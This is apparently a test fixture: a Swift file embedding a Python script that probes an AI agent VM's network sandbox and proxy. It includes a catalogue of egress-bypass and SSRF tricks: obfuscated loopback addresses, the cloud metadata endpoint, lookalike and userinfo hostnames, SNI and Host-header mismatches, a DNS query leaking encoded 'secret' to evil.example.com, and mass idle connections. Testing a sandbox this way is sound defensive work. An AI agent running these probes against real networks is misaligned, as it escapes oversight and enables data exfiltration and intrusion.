/// What an agent does to reach what it may, and what it may not; a program of Python. Each line that it
/// writes is the name of an attempt, and what came of it.
enum NetworkProbe {
  static let text = #"""
    import os, socket, ssl, sys, time, urllib.request, urllib.error

    CA = os.getcwd() + "/ca.pem"
    attempts = {}


    def attempt(function):
        attempts[function.__name__] = function
        return function


    def context():
        return ssl.create_default_context(cafile=CA)


    def fetch(url, proxy=True):
        """The page at an address, through the proxy that the environment names or without one."""
        handlers = [urllib.request.HTTPSHandler(context=context())]
        if not proxy:
            handlers.append(urllib.request.ProxyHandler({}))
        with urllib.request.build_opener(*handlers).open(url, timeout=8) as reply:
            return reply.read().decode().strip()


    def talk(host, port, data=b"", sni=None):
        """What a server answers to these bytes, in TLS where a name is to be asked for."""
        with socket.create_connection((host, port), 8) as connection:
            if sni:
                free = ssl.create_default_context()
                free.check_hostname, free.verify_mode = False, ssl.CERT_NONE
                connection = free.wrap_socket(connection, server_hostname=sni)
            connection.sendall(data)
            return connection.recv(4000).decode("latin-1").strip()


    def proxied(head):
        """The proxy's first line, and its reason."""
        host, port = os.environ["https_proxy"].split("//")[1].split(":")
        answer = talk(host, int(port), head.encode("latin-1"))
        reasons = [line.split(": ")[1] for line in answer.split("\r\n") if line.startswith("X-Agentvm-Refused")]
        return " ".join([answer.split(" ")[1]] + reasons)


    def tunnel(target):
        return proxied("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target))


    attempts["byProxy"] = lambda: fetch("https://ok.example.com/")
    attempts["withoutProxy"] = lambda: fetch("https://ok.example.com/", proxy=False)
    attempts["wildcard"] = lambda: fetch("https://sub.wild.example.com/", proxy=False)
    attempts["otherPort"] = lambda: talk("ok.example.com", 22)
    attempts["exposed"] = lambda: talk("127.0.0.1", 7007, b"echo")
    attempts["plainHTTP"] = lambda: fetch("http://also.example.com/", proxy=False)
    attempts["plainHTTPByProxy"] = lambda: fetch("http://also.example.com/")
    attempts["loopbackOfTheHost"] = lambda: talk("127.0.0.1", 443, b"x")
    attempts["directAddress"] = lambda: talk("93.184.216.34", 443, b"x")
    attempts["metadataAddress"] = lambda: talk("169.254.169.254", 80, b"x")
    attempts["addressOfIPv6"] = lambda: talk("2606:2800:220:1::1", 443, b"x")
    attempts["nameThatIsNotAllowed"] = lambda: talk("private2.example.com", 443, b"x")
    attempts["questionWithAMessage"] = lambda: socket.gethostbyname("c2VjcmV0.evil.example.com")
    attempts["otherNameInTheHandshake"] = lambda: talk("ok.example.com", 443, b"", sni="also.example.com")
    attempts["nothingLikeTLS"] = lambda: talk("ok.example.com", 443, b"GET / HTTP/1.1\r\n\r\n").encode("latin-1").hex()
    attempts["otherHostInTheHead"] = lambda: talk(
        "also.example.com", 80, b"GET / HTTP/1.1\r\nHost: ok.example.com\r\n\r\n").split("\r\n")[0]
    for name, target in {
        "addressByProxy": "93.184.216.34:443", "loopbackByProxy": "127.0.0.1:443", "loopbackByName": "localhost:443",
        "loopbackOfIPv6": "[::1]:443", "mappedLoopback": "[::ffff:127.0.0.1]:443", "octal": "0177.0.0.1:443",
        "hexadecimal": "0x7f.0.0.1:443", "decimal": "2130706433:443", "short": "127.1:443",
        "metadataByProxy": "169.254.169.254:443", "gateItself": "127.77.0.1:3128",
        "privateName": "private.example.com:443", "mixedName": "mixed.example.com:443",
        "metadataName": "metadata.example.com:443", "loopName": "loop.example.com:443",
        "portThatIsNotAllowed": "ok.example.com:25", "noPort": "ok.example.com:99999",
        "negativePort": "ok.example.com:-1", "nameThatIsNotAllowedByProxy": "evil.example.com:443",
        "lookalike": "ok.example.com.evil.test:443", "dotAtTheEnd": "evil.example.com.:443",
        "userInTheName": "ok.example.com:443@evil.example.com:443", "unknownName": "gone.wild.example.com:443",
        "silentName": "silent.example.com:443",
    }.items():
        attempts[name] = lambda target=target: tunnel(target)
    attempts["twoHeads"] = lambda: proxied("CONNECT ok.example.com:443 HTTP/1.1\nX: y\r\n\r\n")
    attempts["addressInThePage"] = lambda: proxied("GET http://127.0.0.1/ HTTP/1.1\r\n\r\n")


    @attempt
    def otherNameInTheTunnel():
        host, port = os.environ["https_proxy"].split("//")[1].split(":")
        with socket.create_connection((host, int(port)), 8) as connection:
            connection.sendall(b"CONNECT ok.example.com:443 HTTP/1.1\r\n\r\n")
            assert b" 200 " in connection.recv(4000)
            free = ssl.create_default_context()
            free.check_hostname, free.verify_mode = False, ssl.CERT_NONE
            free.wrap_socket(connection, server_hostname="also.example.com")
            return "let through"


    @attempt
    def handshakeInPieces():
        """An allowed name, a byte at a time: it must work, or the pieces could hide another one."""
        raw = socket.create_connection(("ok.example.com", 443), 8)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        session = context().wrap_bio(incoming, outgoing, server_hostname="ok.example.com")
        while True:
            try:
                session.do_handshake()
                break
            except ssl.SSLWantReadError:
                for byte in outgoing.read():
                    raw.sendall(bytes([byte]))
                incoming.write(raw.recv(65536))
        return "hello"


    def hello(name):
        """A session, and its first hello."""
        free = ssl.create_default_context()
        free.check_hostname, free.verify_mode = False, ssl.CERT_NONE
        free.minimum_version = ssl.TLSVersion.TLSv1_3
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        session = free.wrap_bio(incoming, outgoing, server_hostname=name)
        try:
            session.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return session, incoming, outgoing


    @attempt
    def secondHello():
        """The server asks for another hello, and gets the one that it should."""
        with socket.create_connection(("retry.example.com", 443), 8) as connection:
            return context().wrap_socket(connection, server_hostname="retry.example.com").recv(5).decode()


    @attempt
    def otherNameInTheSecondHello():
        with socket.create_connection(("retry.example.com", 443), 8) as connection:
            right, wrong = hello("retry.example.com"), hello("also.example.com")
            wrong[2].read()
            connection.sendall(right[2].read())
            wrong[1].write(connection.recv(4000))
            try:
                wrong[0].do_handshake()
            except ssl.SSLError:
                pass
            connection.sendall(wrong[2].read())
            return "answered" if connection.recv(4000) else "closed"


    @attempt
    def emptyRecordBeforeTheHello():
        return talk("ok.example.com", 7000, b"\x16\x03\x01\x00\x00" + hello("also.example.com")[2].read()) or "closed"


    @attempt
    def plainHTTPInATunnel():
        host, port = os.environ["https_proxy"].split("//")[1].split(":")
        with socket.create_connection((host, int(port)), 8) as connection:
            connection.sendall(b"CONNECT also.example.com:80 HTTP/1.1\r\n\r\n")
            connection.recv(4000)
            connection.sendall(b"GET / HTTP/1.1\r\nHost: evil.example.com\r\n\r\n")
            return connection.recv(4000).decode() or "closed"


    @attempt
    def halfClosed():
        """What looks like the beginning of TLS, and ends: it arrives, and nothing of it stays behind."""
        answers = set()
        for data in [b"\x16"] * 1200 + [b"", b"abc"]:
            with socket.create_connection(("ok.example.com", 7001), 8) as connection:
                connection.sendall(data)
                connection.shutdown(socket.SHUT_WR)
                answers.add(connection.recv(10).decode())
        return " ".join(sorted(answers))


    @attempt
    def brokenOff():
        """An upload that is broken off does not look whole."""
        connection = socket.create_connection(("ok.example.com", 7000), 8)
        connection.sendall(b"x" * 100)
        connection.recv(10)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        connection.close()
        return "done"


    @attempt
    def aThousandAtOnce():
        held = [socket.create_connection(("ok.example.com", 7000), 8) for _ in range(1000)]
        for connection in held:
            connection.sendall(b"x")
        return str(sum(connection.recv(1) == b"x" for connection in held))


    @attempt
    def lateComersAmongSlowOnes():
        """Those who never say what they want keep nobody out."""
        idle = [socket.create_connection(("ok.example.com", 443), 8) for _ in range(1200)]
        return fetch("https://ok.example.com/", proxy=False)


    @attempt
    def muchAtOnce():
        begin = time.time()
        size = len(fetch("https://ok.example.com/big", proxy=False))
        return str(size)


    for name in sys.argv[1:] or attempts:
        try:
            result = attempts[name]()
        except (OSError, KeyError, AssertionError) as problem:
            result = "%s %s" % (type(problem).__name__, str(problem).split("] ")[-1].split(" (_ssl")[0])
        print("%s: %s" % (name, str(result).replace("\n", " ")[:200]), flush=True)
    """#
}
